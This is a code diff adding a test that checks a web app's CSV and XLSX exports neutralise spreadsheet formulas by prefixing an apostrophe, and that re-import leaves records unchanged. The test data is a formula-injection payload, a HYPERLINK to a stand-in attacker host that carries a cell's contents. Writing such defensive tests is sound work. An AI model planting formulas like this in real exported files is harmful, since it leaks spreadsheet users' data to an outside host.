@@ -138,6 +138,26 @@ def test_an_unchanged_export_imports_again_without_errors(admin_client, file_for
     assert "Skipped" in text and "Update" not in text
 
 
+@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT], ids=["csv", "xlsx"])
+def test_export_text_a_spreadsheet_would_run_is_kept_as_text(admin_client, file_format):
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
+    CareerPageFactory(summary=formula, duties="- a Markdown list item")
+    exported = export(admin_client, CareerPage, file_format).content
+    if file_format == XLSX_FORMAT:
+        sheet = openpyxl.load_workbook(io.BytesIO(exported)).active
+        header, row = ([cell.value for cell in line] for line in sheet.iter_rows())
+        cells = dict(zip(header, row, strict=True))
+    else:
+        (cells,) = csv.DictReader(io.StringIO(exported.decode()))
+    assert cells["summary"] == f"'{formula}"
+    assert cells["duties"] == "'- a Markdown list item"
+    # The apostrophe comes off on the way back: the file imports unchanged.
+    name = "pages.xlsx" if file_format == XLSX_FORMAT else "pages.csv"
+    preview = upload(admin_client, CareerPage, exported, name, file_format)
+    text = visible_text(preview.content)
+    assert "Skipped" in text and "Update" not in text
+
+
 def test_import_yes_no_cells_take_words_and_refuse_the_unknown(admin_client):
     text = "name,url,show_in_directory\nA,https://a.example/,yes\nB,https://b.example/,No\n"
     preview = upload(admin_client, Resource, text, name="resources.csv")
